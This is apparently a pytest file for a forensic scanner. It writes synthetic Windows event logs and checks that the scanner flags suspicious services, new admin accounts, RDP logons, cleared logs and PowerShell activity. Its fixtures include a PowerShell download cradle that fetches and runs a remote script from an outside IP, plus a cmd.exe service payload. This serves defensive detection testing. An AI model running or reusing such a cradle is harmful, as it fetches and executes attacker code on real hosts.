"""Event logs of a Windows collection, written by ``evtx_writer`` and read by the Rust evtx parser.

The writer follows the format's documentation; each file is first read back by python-evtx (an
independent parser) so a mistake of the writer cannot pass for a finding of the check.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from cranewatch.forensics.api import scan_image
from cranewatch.model import Finding, Severity
from evtx_writer import Element, event, write_evtx
from test_forensics_windows import STS07
from windows_helpers import stock_tree

LOGS = "Windows/System32/winevt/Logs"
T0 = datetime(2024, 5, 14, 8, 30, tzinfo=UTC)
SCM = "Service Control Manager"
SECURITY = "Microsoft-Windows-Security-Auditing"
CRADLE = "$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://203.0.113.77/stage2.ps1')"
CLEARED_NS = "http://manifests.microsoft.com/win/2004/08/windows/eventlog"


def _service(i: int, name: str, path: str) -> tuple[Element, datetime]:
    when = T0 + timedelta(minutes=i)
    return event(SCM, 7045, "System", when, i, {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service",
                                                 "StartType": "auto start", "AccountName": "LocalSystem"}), when


def _security(i: int, event_id: int, data: dict[str, str]) -> tuple[Element, datetime]:
    when = T0 + timedelta(hours=1, minutes=i)
    return event(SECURITY, event_id, "Security", when, i, data), when


def _logon(i: int, user: str, address: str, logon_type: str = "10") -> tuple[Element, datetime]:
    return _security(i, 4624, {"TargetUserName": user, "TargetDomainName": "CMS-PC", "LogonType": logon_type,
                               "IpAddress": address, "IpPort": "50123"})


def _cleared(i: int, channel: str, event_id: int) -> tuple[Element, datetime]:
    when = T0 + timedelta(hours=2, minutes=i)
    user_data = Element("LogFileCleared", {"xmlns": CLEARED_NS}, [Element("SubjectUserName", children=["cmsadmin"]),
                                                                  Element("Channel", children=[channel])])
    provider = "Microsoft-Windows-Eventlog"
    return event(provider, event_id, channel, when, i, user_data=user_data), when


def _python_evtx_count(path: Path) -> int:
    from Evtx.Evtx import Evtx

    with Evtx(str(path)) as log:
        return sum(1 for _ in log.records())


@pytest.fixture(scope="module")
def collection(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = stock_tree(shared_data, tmp_path_factory.mktemp("evtx") / "C")
    system = [
        _service(1, "Windows Update Medic", "%SystemRoot%\\system32\\svchost.exe -k wusvcs -p"),  # stock: nothing
        _service(2, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        _service(3, "CraneSync", "C:\\ProgramData\\CraneSync\\cranesync.exe"),
        _service(4, "tmp1a2b", "%COMSPEC% /c echo whoami > \\\\.\\pipe\\x"),
        _cleared(5, "System", 104),
    ]
    # Many ordinary events around them, over several 64 KiB chunks.
    system += [_service(10 + i, f"Driver{i}", f"System32\\drivers\\drv{i}.sys") for i in range(400)]
    security = [
        _security(1, 4720, {"TargetUserName": "support", "TargetDomainName": "CMS-PC", "SubjectUserName": "cmsadmin"}),
        _security(2, 4732, {"MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1004", "TargetUserName": "Administrators",
                            "TargetSid": "S-1-5-32-544", "SubjectUserName": "cmsadmin"}),
        _logon(3, "support", "198.51.100.77"),
        _logon(4, "support", "198.51.100.77"),
        _logon(5, "support", "198.51.100.77"),
        _logon(6, "cmsadmin", "10.20.7.50"),
        _logon(7, "cmsadmin", "10.20.7.50", logon_type="2"),  # at the console: not remote
        _logon(8, "vendor", "127.0.0.1"),  # RDP through a reverse tunnel arrives from loopback
        _cleared(9, "Security", 1102),
    ]
    powershell = [
        (event("Microsoft-Windows-PowerShell", 4104, "Microsoft-Windows-PowerShell/Operational", T0, 1,
               {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": CRADLE, "ScriptBlockId": "{b1}", "Path": ""}), T0),
        (event("Microsoft-Windows-PowerShell", 4104, "Microsoft-Windows-PowerShell/Operational", T0, 2,
               {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "Get-Service | Sort-Object Name",
                "ScriptBlockId": "{b2}", "Path": ""}), T0),
    ]
    for name, events in (("System", system), ("Security", security),
                         ("Microsoft-Windows-PowerShell%4Operational", powershell)):
        path = write_evtx(root / LOGS / f"{name}.evtx", events)
        assert _python_evtx_count(path) == len(events)  # the writer checked by an independent parser
    return root


def _rule(findings: tuple[Finding, ...], rule: str) -> list[Finding]:
    return sorted((f for f in findings if f.rule == rule), key=lambda f: f.title)


def test_event_logs_give_their_findings(collection: Path) -> None:
    result = scan_image(collection, workers=1, policy=STS07)
    findings = result.findings
    services = {f.evidence[0].values["service"]: f for f in _rule(findings, "windows.event-service-installed")}
    assert set(services) == {"PSEXESVC", "CraneSync", "tmp1a2b"}  # not the stock service, not the 400 drivers
    assert services["PSEXESVC"].severity == Severity.HIGH
    assert services["CraneSync"].severity == Severity.HIGH
    assert services["tmp1a2b"].severity == Severity.CRITICAL
    assert services["CraneSync"].evidence[0].path == f"{LOGS}/System.evtx"
    assert services["CraneSync"].evidence[0].values["first"] == "2024-05-14T08:33:00Z"
    (user,) = _rule(findings, "windows.event-new-user")
    assert "support" in user.title and user.severity == Severity.MEDIUM
    (admin,) = _rule(findings, "windows.event-new-admin")
    assert "S-1-5-21-1-2-3-1004" in admin.title and admin.severity == Severity.HIGH
    rdp = sorted(_rule(findings, "windows.event-rdp-logon"), key=lambda f: f.evidence[0].values["user"])
    assert [(f.evidence[0].values["address"], f.evidence[0].values["count"], f.severity) for f in rdp] == [
        ("10.20.7.50", 1, Severity.MEDIUM), ("198.51.100.77", 3, Severity.HIGH), ("127.0.0.1", 1, Severity.HIGH)]
    cleared = _rule(findings, "windows.event-log-cleared")
    assert [f.evidence[0].values["channel"] for f in cleared] == ["Security", "System"]
    assert all(f.severity == Severity.HIGH for f in cleared)
    (script,) = _rule(findings, "windows.event-powershell")
    assert script.severity == Severity.CRITICAL and "DownloadString('http://203.0.113.77/stage2.ps1')" in str(script.evidence[0].excerpt)
    assert result.warnings == ()


def test_a_damaged_event_log_is_a_located_problem(collection: Path, tmp_path: Path) -> None:
    import shutil

    root = tmp_path / "C"
    shutil.copytree(collection, root)
    log = root / LOGS / "System.evtx"
    data = bytearray(log.read_bytes())
    data[4096 + 600 : 4096 + 700] = b"\xff" * 100  # inside the first chunk's first records
    log.write_bytes(bytes(data))
    (root / LOGS / "Broken.evtx").write_bytes(b"not an event log at all" * 10)
    result = scan_image(root, workers=1, policy=STS07)
    problems = [w for w in result.warnings if LOGS in w]
    assert any("System.evtx" in w for w in problems), result.warnings
    assert any("Broken.evtx" in w for w in problems), result.warnings
    # The other logs and the undamaged chunks are still read.
    assert _rule(result.findings, "windows.event-powershell")
    assert _rule(result.findings, "windows.event-rdp-logon")


def test_damaged_event_logs_never_break_the_check(tmp_path: Path) -> None:
    """Bounded fuzzing (fixed seed, 60 cases): bytes flipped and logs cut give findings or located
    problems, never an exception."""
    import random

    from cranewatch.forensics.checks.base import ScanContext
    from cranewatch.forensics.image import open_image
    from cranewatch.forensics.windows import eventlogs
    from cranewatch.forensics.windows.tree import WindowsTree

    base = write_evtx(tmp_path / "base.evtx", [_service(i, f"Svc{i}", "C:\\ProgramData\\x.exe") for i in range(1, 200)]).read_bytes()
    root = tmp_path / "C"
    (root / "Windows/System32/config").mkdir(parents=True)
    log = root / LOGS / "System.evtx"
    log.parent.mkdir(parents=True)
    rng = random.Random(16)
    for _ in range(60):
        data = bytearray(base)
        for _ in range(rng.randint(1, 40)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        if rng.random() < 0.3:
            data = data[: rng.randrange(len(data))]
        log.write_bytes(bytes(data))
        with open_image(root) as image:
            win = WindowsTree(image, ScanContext(crane=None, entries=image.entries, owner={}, md5={}, conffiles={}))
            findings = list(eventlogs.check(win))
            assert all(f.rule == "windows.event-service-installed" for f in findings)
            assert all(f"{LOGS}/System.evtx" in p for p in win.problems)
